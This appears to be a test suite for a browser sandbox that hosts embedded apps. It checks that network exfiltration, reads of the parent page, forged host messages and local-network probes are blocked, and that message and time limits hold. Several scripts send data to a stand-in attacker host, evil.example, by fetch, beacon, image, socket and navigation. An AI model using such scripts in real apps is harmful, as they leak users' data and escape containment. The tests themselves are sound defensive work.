/** Apps in a real browser: what leaves them, and what a sandbox stops. */
import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from 'vitest'
import { findChromium } from '../../src/apps/chromium.ts'
import { policyOf } from '../../src/apps/csp.ts'
import type { NetworkAccess } from '../../src/apps/network.ts'
import { openView } from '../../src/apps/view.ts'
import { targetLimits } from '../../src/limits.ts'

const browserTest = test.skipIf(findChromium() === undefined)
if (findChromium() === undefined) console.warn('\nSKIPPED: apps were not rendered: there is no Chromium\n')

interface Setting {
  readonly isSandboxed: boolean
  readonly csp?: object
}

const strict: Setting = { isSandboxed: true, csp: {} }
const weak: Setting = { isSandboxed: false }

/** Renders an app with one script, and returns its messages and accesses. */
async function render(script: string, { isSandboxed, csp }: Setting, reply?: string) {
  const messages: unknown[] = []
  const accesses: NetworkAccess[] = []
  const view = await openView({
    html: `<!doctype html><script>const say = (x) => parent.postMessage(x, '*');${script}</script>`,
    conversation: 'The code is 7141.',
    isSandboxed,
    csp: csp && policyOf(csp as never),
    onMessage: (text) => {
      messages.push(JSON.parse(text))
      if (reply !== undefined) void view.deliver(reply)
    },
    onNetwork: (access) => accesses.push(access),
  })
  try {
    await view.load()
    await view.settled(() => false)
  } finally {
    await view.close()
  }
  const of = (surface: string) =>
    [...new Set(accesses.flatMap((one) => (one.surface === surface ? [String(one.content.url)] : [])))].sort()
  return { messages, sent: of('network/sent'), blocked: of('network/blocked'), accesses }
}

browserTest('messages go both ways', async () => {
  const script = `let count = 0
    addEventListener('message', ({ data }) => { if (count++ === 0) say({ got: data }) })
    say({ id: 1 })`
  const app = await render(script, strict, '{"a":"\u2028</script>"}')
  expect(app.messages).toEqual([{ id: 1 }, { got: { a: '\u2028</script>' } }])
})

const attempts = `
fetch('https://evil.example/fetch', { method: 'POST', body: 'secret' }).catch(() => {})
new Image().src = 'https://evil.example/image'
try { new WebSocket('wss://evil.example/socket') } catch {}
navigator.sendBeacon('https://evil.example/beacon', 'x')
const frame = document.createElement('iframe'); frame.src = 'https://evil.example/frame'; document.documentElement.append(frame)
try { window.open('https://evil.example/popup') } catch {}
setTimeout(() => { try { top.location = 'https://evil.example/top' } catch {} }, 150)
setTimeout(() => { location = 'https://evil.example/self' }, 300)`

browserTest('without a sandbox and a policy everything leaves the app', async () => {
  const { sent, accesses } = await render(attempts, weak)
  const paths = ['beacon', 'fetch', 'frame', 'image', 'popup', 'self', 'top'].map(
    (path) => `https://evil.example/${path}`,
  )
  expect(sent).toEqual([...paths, 'wss://evil.example/socket'])
  expect(accesses).toContainEqual({
    surface: 'network/sent',
    content: { url: 'https://evil.example/fetch', method: 'POST', kind: 'XHR', body: 'secret' },
  })
})

browserTest('in the sandbox nothing does', async () => {
  const { sent, blocked } = await render(attempts, strict)
  expect(sent).toEqual([])
  expect(blocked).toEqual([
    // Of frames only the origin is known.
    'https://evil.example',
    'https://evil.example/beacon',
    'https://evil.example/fetch',
    'https://evil.example/image',
    'wss://evil.example/socket',
  ])
})

browserTest('a declared origin is reached, and no other', async () => {
  const csp = { connectDomains: ['https://api.example'] }
  const script = `for (const name of ['api', 'evil']) fetch('https://' + name + '.example/').catch(() => {})`
  const { sent, blocked } = await render(script, { isSandboxed: true, csp })
  expect([sent, blocked]).toEqual([['https://api.example/'], ['https://evil.example/']])
})

browserTest('only a sandbox hides the page around the app', async () => {
  const script = `let seen = 'nothing'; try { seen = parent.document.getElementById('conversation').textContent } catch {}; say({ seen })`
  expect((await render(script, weak)).messages).toEqual([{ seen: 'The code is 7141.' }])
  expect((await render(script, strict)).messages).toEqual([{ seen: 'nothing' }])
})

browserTest('an app in the sandbox cannot speak for its proxy or for the page of the host', async () => {
  const script = `
    say({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} })
    try { top.postMessage({ forged: 1 }, '*') } catch {}
    try { joustTake(JSON.stringify({ from: 'app', text: '{"forged":2}' })) } catch {}
    setTimeout(() => say({ end: 1 }), 100)`
  expect((await render(script, strict)).messages).toEqual([{ end: 1 }])
})

browserTest('no app reaches a server on this machine', async () => {
  const requests: string[] = []
  const server = createServer(({ url }, answer) => {
    requests.push(String(url))
    answer.end()
  }).listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  const { port } = server.address() as AddressInfo
  const stun = createSocket('udp4', (packet) => requests.push(`${packet.length} bytes over UDP`))
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve))
  const script = `for (const host of ['127.0.0.1', 'localhost']) {
    fetch('http://' + host + ':${port}/fetch', { mode: 'no-cors' }).catch(() => {})
    try { new WebSocket('ws://' + host + ':${port}/socket') } catch {}
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host + ':${stun.address().port}' }] })
    peer.createDataChannel('a')
    peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  }
  setTimeout(() => say(1), 1000)`
  const { sent } = await render(script, weak)
  expect(sent).toContain(`ws://127.0.0.1:${port}/socket`)
  expect(requests).toEqual([])
  server.close()
  stun.close()
})

browserTest('a flood of messages ends at the limit', async () => {
  const { messages } = await render(`for (let i = 0; i < 5000; i++) say({ i })`, weak)
  expect(messages).toHaveLength(targetLimits.appEvents)
})

browserTest('an app that never rests ends at the time limit', { timeout: 60_000 }, async () => {
  const begun = performance.now()
  const { messages } = await render(
    `say({ a: 1 }); setInterval(() => fetch('https://evil.example/').catch(() => {}), 100)`,
    weak,
  )
  expect(messages).toEqual([{ a: 1 }])
  expect(performance.now() - begun).toBeLessThan(targetLimits.appMs + 10_000)
})

browserTest.each([
  ['never loads', `say({ a: 1 }); while (true) {}`, /the app did not load within 20 s/],
  ['blocks its page', `setTimeout(() => { while (true) {} }, 300)`, /the app's page did not respond within 10 s/],
])(
  'an app that %s does not block the run, and is not taken for quiet',
  { timeout: 60_000 },
  async (_, script, reason) => {
    await expect(render(script, weak)).rejects.toThrow(reason)
  },
)

browserTest.each([weak, strict])('an app that leaves its page at once has loaded (%j)', async (setting) => {
  await render(
    `location = 'https://evil.example/self'; try { top.location = 'https://evil.example/top' } catch {}`,
    setting,
  )
})

browserTest.each([
  ['data that is not JSON', `const a = {}; a.a = a; say(a); say(1n); say(undefined)`],
  ['an error', `throw new Error('x')`],
  ['no document', `document.documentElement.remove()`],
])('%s is harmless', async (_, script) => {
  await render(script, weak)
  await render(script, strict)
})
